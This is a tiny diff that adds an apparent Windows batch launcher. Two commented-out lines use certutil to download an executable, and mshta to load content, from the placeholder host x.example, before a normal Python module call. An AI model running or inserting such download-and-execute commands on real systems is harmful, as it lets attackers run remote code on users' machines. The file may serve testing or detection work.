@@ -1,0 +1,3 @@
+REM certutil -urlcache -f http://x.example/a a.exe
+:: mshta http://x.example
+python -m example %*
